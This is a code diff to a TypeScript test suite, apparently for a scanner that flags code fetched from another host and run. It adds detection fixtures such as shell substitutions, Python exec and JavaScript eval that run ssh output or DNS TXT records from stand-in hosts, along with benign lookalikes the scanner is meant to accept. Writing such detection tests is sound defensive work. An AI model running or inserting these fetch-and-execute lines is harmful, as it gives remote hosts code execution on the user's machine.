@@ -65,17 +65,20 @@ const LOADED_NATIVE_DOWNLOADS: FindingRow[] = [
   ['src/test/java/BootTest.java', `Files.copy(new URL("${BOOT}.so").openStream(), Paths.get("/tmp/boot.so"));\nSystem.load("/tmp/boot.so");`],
 ];
 
-/** A DNS answer or another host's output, given to a shell to run by a substitution. */
+/** A DNS answer or another host's output, run: given to a shell by a substitution, or to a language's `exec`/`eval`. */
 const HOST_OUTPUT_RUN: FindingRow[] = [
   ['tests/test_invoices.py', `subprocess.run('sh -c "$(dig +short TXT boot.203.0.113.9.nip.io)"', shell=True)`],
   ['docs/setup.md', 'eval "$(ssh deploy@203.0.113.9 cat boot.sh)"'],
   ['docs/setup.md', 'bash -c "$(nslookup -q=txt boot.example.net)"'],
+  ['tests/test_invoices.py', `exec(subprocess.check_output(['ssh', 'deploy@203.0.113.9', 'cat boot.py']))`],
+  ['tests/test_invoices.py', "exec(dns.resolver.resolve('boot.example.net', 'TXT')[0].to_text())"],
+  ['test/boot.test.js', "eval((await dns.promises.resolveTxt('boot.example.net'))[0].join(''))"],
 ];
 
 describeFindings('attack 64', [
   ['a download loaded by a loader that takes a path', closedRows(LOADED_DOWNLOADS)],
   ['a native library written from a fetch, then loaded', [...closedRows(LOADED_NATIVE_DOWNLOADS.slice(0, 1)), ...LOADED_NATIVE_DOWNLOADS.slice(1)]],
-  ["another host's output run through a substitution", HOST_OUTPUT_RUN],
+  ["another host's output (a DNS record, ssh) run as code", closedRows(HOST_OUTPUT_RUN)],
 ]);
 
 describeAccepted('attack 64: ordinary loaders and lookups near the rules', [
@@ -83,6 +86,9 @@ describeAccepted('attack 64: ordinary loaders and lookups near the rules', [
   ['tests/test_invoices.py', 'lib = ctypes.CDLL(ctypes.util.find_library("c"))'],
   ['tests/test_invoices.py', 'site.addsitedir(os.path.join(HERE, "vendor"))'],
   ['docs/setup.md', 'ip="$(dig +short example.com)"'],
+  ['docs/setup.md', 'eval "$(ssh-agent -s)"'],
+  ['tests/test_invoices.py', "out = subprocess.check_output(['ssh', host, 'uptime'])"],
+  ['tests/test_invoices.py', "answers = dns.resolver.resolve('example.com', 'A')"],
   ['tests/test_invoices.py', 'path = tmp_path / "data.json"\nwith open(path) as f:\n    data = json.load(f)'],
 ]);
 
